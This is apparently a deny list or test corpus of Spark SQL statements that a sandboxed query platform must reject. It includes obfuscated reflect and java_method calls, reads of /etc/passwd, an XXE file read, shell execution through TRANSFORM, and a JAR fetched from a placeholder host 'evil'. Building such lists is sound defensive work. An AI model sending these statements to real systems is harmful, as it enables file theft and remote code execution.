-- What nobody may send, the platform's own user included.
SET spark.sql.variable.substitute=true
SET spark.sql.session.timeZone=${env:HOME}
SET TIME ZONE '${env:HOME}'
SET
SET -v
SET spark.driver.host
SET x=1
RESET
RESET spark.sql.session.timeZone
SELECT `reflect`('java.lang.System', 'getProperty', 'user.name')
SELECT ReFlect('java.lang.System', 'getProperty', 'user.name')
SELECT builtin.reflect('java.lang.System', 'getProperty', 'user.name')
SELECT system.builtin.reflect('java.lang.System', 'getProperty', 'user.name')
SELECT IDENTIFIER('reflect')('java.lang.System', 'getProperty', 'user.name')
SELECT IDENTIFIER('ref' || 'lect')('java.lang.System', 'getProperty', 'user.name')
SELECT IDENTIFIER(lower('REFLECT'))('java.lang.System', 'getProperty', 'user.name')
SELECT * FROM IDENTIFIER('t')
SELECT * FROM IDENTIFIER('t' || '')
SELECT * FROM IDENTIFIER('tex' || 't.`file:///etc/passwd`')
SELECT from_xml('<p><a>1</a></p>', 'a STRING', map('rowValidationXSDPath', 'file:///tmp/x'))
SELECT schema_of_xml('<p/>', map('rowValidationXSDPath', 'file:///tmp/x'))
SELECT xpath('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>', 'a/text()')
SELECT to_xml(struct(1))
SELECT from_json('{}', 'a INT', map('compression', 'x'))
SELECT from_json('{}', 'a INT', map('mo' || 'de', 'PERMISSIVE'))
SELECT from_json('{}', 'a INT', map_from_arrays(array('mode'), array('PERMISSIVE')))
SELECT from_json('{}', 'a INT', map_from_entries(array(struct('path', 'file:///'))))
SELECT from_json('{}', 'a INT', str_to_map('path:x'))
SELECT from_json('{}', 'a INT', options => map('path', 'x'))
SELECT to_json(struct(1), map('encoding', 'x'))
SELECT from_csv('1', 'a INT', map('path', 'x'))
SELECT schema_of_csv('1', map('fs.hdfs.impl', 'x'))
SELECT schema_of_json('1', (SELECT map('fs.hdfs.impl', 'x')))
SELECT from_json('1', '{"type":"udt","class":"java.lang.Object","sqlType":"string"}')
SELECT from_avro(X'00', '{}')
SELECT from_protobuf(X'00', 'a', 'file:///etc/passwd')
SELECT input_file_name()
SELECT current_user()
SELECT current_user
SELECT user
SELECT session_user
SELECT version()
SELECT raise_error('x')
SELECT assert_true(false)
SELECT * FROM python_worker_logs()
SELECT * FROM sql_keywords()
SELECT * FROM t WITH ('fs.hdfs.impl' = 'java.lang.Object')
SELECT * FROM t WITH ('mergeSchema' = 'true')
WITH a AS (SELECT * FROM t WITH (fs.hdfs.impl = 'x')) SELECT * FROM a
SELECT (SELECT max(host) FROM t WITH ('a' = 'b'))
EXPLAIN SELECT * FROM t WITH ('a' = 'b')
EXPLAIN SELECT reflect('java.lang.System', 'getProperty', 'user.name')
EXPLAIN CODEGEN SELECT reflect('java.lang.System', 'getProperty', 'user.name')
DESCRIBE QUERY SELECT reflect('java.lang.System', 'getProperty', 'user.name')
INSERT INTO t WITH ('a' = 'b') SELECT * FROM t
SELECT * FROM t VERSION AS OF 1
SELECT * FROM t TIMESTAMP AS OF '2015-01-01'
SELECT /*+ BROADCAST(t) */ * FROM t
SELECT /*+ REPARTITION(1000000) */ * FROM t
SELECT /*+ nothing */ 1
CACHE TABLE t
CACHE LAZY TABLE x OPTIONS ('storageLevel' 'DISK_ONLY') SELECT 1
UNCACHE TABLE t
CLEAR CACHE
REFRESH FUNCTION f
REFRESH 'file:///etc'
DECLARE VARIABLE x INT DEFAULT 1
SET VAR x = 1
EXECUTE IMMEDIATE 'SELECT 1'
EXECUTE IMMEDIATE 'SELECT ?' USING 1
BEGIN SELECT 1; END
BEGIN DECLARE x INT; SET x = 1; SELECT x; END
BEGIN IF 1 = 1 THEN SELECT reflect('a', 'b'); END IF; END
CREATE TEMPORARY VIEW x AS SELECT reflect('a', 'b')
CREATE TEMPORARY VIEW evil USING text OPTIONS (path 'file:///etc/passwd')
CREATE GLOBAL TEMPORARY VIEW evil USING csv OPTIONS (path '/etc/passwd')
CREATE TABLE evil USING csv OPTIONS (path '/x')
CREATE TABLE evil (a STRING) USING parquet OPTIONS ('fs.hdfs.impl' = 'x')
CREATE TABLE evil (a STRING) USING parquet TBLPROPERTIES ('fs.hdfs.impl' = 'x')
CREATE TABLE evil (a STRING) USING java.lang.Object
CREATE TABLE evil (a STRING) USING `java.lang.Object`
CREATE TABLE evil (a STRING) USING jdbc OPTIONS (url 'x', dbtable 'y')
CREATE TABLE evil (a STRING) ROW FORMAT SERDE 'x.Y'
CREATE TABLE evil (a STRING) STORED AS INPUTFORMAT 'x' OUTPUTFORMAT 'y'
CREATE TABLE evil LIKE t USING java.lang.Object
CREATE TABLE evil (a INT DEFAULT reflect('java.lang.System', 'getProperty', 'user.name')) USING parquet
CREATE TABLE evil USING parquet AS SELECT reflect('java.lang.System', 'getProperty', 'user.name')
CREATE VIEW evil AS SELECT reflect('java.lang.System', 'getProperty', 'user.name')
CREATE VIEW evil TBLPROPERTIES ('a' = 'b') AS SELECT 1
ALTER TABLE t SET SERDE 'x.Y'
ALTER TABLE t SET SERDEPROPERTIES ('a' = 'b')
ALTER TABLE t SET TBLPROPERTIES ('a' = 'b')
ALTER TABLE t SET LOCATION 's3a://evil/x'
ALTER TABLE t ADD PARTITION (day = 'x') LOCATION 'http://evil'
CREATE DATABASE evil WITH DBPROPERTIES ('a' = 'b')
ALTER DATABASE default SET LOCATION 'file:///tmp'
CREATE FUNCTION f AS 'x.Y'
CREATE FUNCTION f AS 'x.Y' USING JAR 'http://evil/x.jar'
CREATE TEMPORARY FUNCTION f AS 'x.Y'
CREATE FUNCTION f(x INT) RETURNS INT RETURN x + 1
CREATE TEMPORARY FUNCTION f(x INT) RETURNS INT RETURN x + 1
DROP FUNCTION f
SELECT f(1)
SELECT default.f(1)
CALL x.y()
SHOW PROCEDURES
ADD JAR '/tmp/x.jar'
ADD FILE '/etc/passwd'
LIST JARS
LIST FILES
LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE t
INSERT OVERWRITE LOCAL DIRECTORY '/tmp/evil' SELECT 1
INSERT OVERWRITE DIRECTORY '/tmp/evil' USING parquet SELECT 1
SELECT TRANSFORM(1) USING 'id'
FROM t MAP host USING 'cat' AS a
SELECT * FROM text.`/etc/passwd`
SELECT * FROM parquet.`hdfs:///x`
SELECT * FROM STREAM t
MERGE INTO t USING t AS s ON t.host = s.host WHEN MATCHED THEN DELETE
UPDATE t SET host = 'x'
DELETE FROM t
SELECT 1 AS x, java_method('java.lang.System', 'getenv', 'PATH') OVER () FROM t
SELECT * FROM t LATERAL VIEW reflect('a', 'b') x AS y
SELECT transform(array(1), x -> reflect('java.lang.System', 'getProperty', 'user.name'))
SELECT * FROM VALUES (reflect('java.lang.System', 'getProperty', 'user.name'))
SELECT 1 ORDER BY reflect('java.lang.System', 'getProperty', 'user.name')
SELECT sum(1) FILTER (WHERE reflect('java.lang.System', 'getProperty', 'user.name') = 'a')
SELECT 1 LIMIT length(reflect('java.lang.System', 'getProperty', 'user.name'))
SELECT * FROM range(length(reflect('java.lang.System', 'getProperty', 'user.name')))
SELECT * FROM t JOIN t AS b ON reflect('java.lang.System', 'getProperty', 'user.name') = 'x'
SELECT count(*) OVER (PARTITION BY reflect('java.lang.System', 'getProperty', 'user.name')) FROM t
SELECT * FROM (SELECT 1 AS a, 2 AS b) PIVOT (max(reflect('java.lang.System', 'getProperty', 'user.name')) FOR a IN (1))
SELECT 1 GROUP BY reflect('java.lang.System', 'getProperty', 'user.name')
SELECT CASE WHEN false THEN reflect('java.lang.System', 'getProperty', 'user.name') END
